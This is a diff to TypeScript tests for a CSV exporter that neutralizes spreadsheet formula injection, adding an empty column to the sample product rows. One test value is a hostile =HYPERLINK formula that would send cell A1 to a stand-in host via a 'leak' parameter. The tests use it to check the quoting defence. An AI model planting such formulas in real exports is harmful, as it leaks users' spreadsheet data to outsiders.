@@ -209,7 +209,7 @@ describe("identifiers are rejected at load when a spreadsheet would run them", (
     mkdirSync(templates, { recursive: true });
     mkdirSync(drops, { recursive: true });
     const product = (id: string, sku: string, name: string) =>
-      `${id},${sku},${name},tea,12.50,2025-01-01,2025-01-01T00:00:00Z`;
+      `${id},${sku},${name},,tea,12.50,2025-01-01,2025-01-01T00:00:00Z`;
     const csvQuote = (value: string) => `"${value.replaceAll('"', '""')}"`;
     writeFileSync(
       join(templates, "products.csv"),
@@ -277,15 +277,15 @@ describe("CSV the product writes", () => {
   const table: TableSpec = products;
 
   it("the templates exporter quotes free text that starts like a formula, and leaves everything else byte for byte", () => {
-    const plain = "P1,SKU-1,Sino-Pacific Oolong,tea,12.50,2025-01-01,2025-01-01T00:00:00Z";
+    const plain = "P1,SKU-1,Sino-Pacific Oolong,,tea,12.50,2025-01-01,2025-01-01T00:00:00Z";
     expect(spreadsheetSafeCsvLine(table, plain)).toBe(plain);
-    const negative = "P1,SKU-1,Oolong,-tea-,-12.50,2025-01-01,2025-01-01T00:00:00Z";
+    const negative = "P1,SKU-1,Oolong,,-tea-,-12.50,2025-01-01,2025-01-01T00:00:00Z";
     expect(spreadsheetSafeCsvLine(table, negative)).toBe(
-      "P1,SKU-1,Oolong,'-tea-,-12.50,2025-01-01,2025-01-01T00:00:00Z",
+      "P1,SKU-1,Oolong,,'-tea-,-12.50,2025-01-01,2025-01-01T00:00:00Z",
     );
-    const hostile = `P1,SKU-1,"=HYPERLINK(""http://x?leak=""&A1,""Click"")",@cat,12.50,2025-01-01,2025-01-01T00:00:00Z`;
+    const hostile = `P1,SKU-1,"=HYPERLINK(""http://x?leak=""&A1,""Click"")",,@cat,12.50,2025-01-01,2025-01-01T00:00:00Z`;
     expect(spreadsheetSafeCsvLine(table, hostile)).toBe(
-      `P1,SKU-1,"'=HYPERLINK(""http://x?leak=""&A1,""Click"")",'@cat,12.50,2025-01-01,2025-01-01T00:00:00Z`,
+      `P1,SKU-1,"'=HYPERLINK(""http://x?leak=""&A1,""Click"")",,'@cat,12.50,2025-01-01,2025-01-01T00:00:00Z`,
     );
   });
 
@@ -302,7 +302,7 @@ describe("CSV the product writes", () => {
     const lines = names.map((name, i) =>
       spreadsheetSafeCsvLine(
         table,
-        [`P${i}`, `SKU-${i}`, csvField(name), "tea", "12.50", "2025-01-01", "2025-01-01T00:00:00Z"].join(","),
+        [`P${i}`, `SKU-${i}`, csvField(name), "", "tea", "12.50", "2025-01-01", "2025-01-01T00:00:00Z"].join(","),
       ),
     );
     writeFileSync(join(templates, "products.csv"), `${templateHead(table)}${lines.join("\n")}\n`);
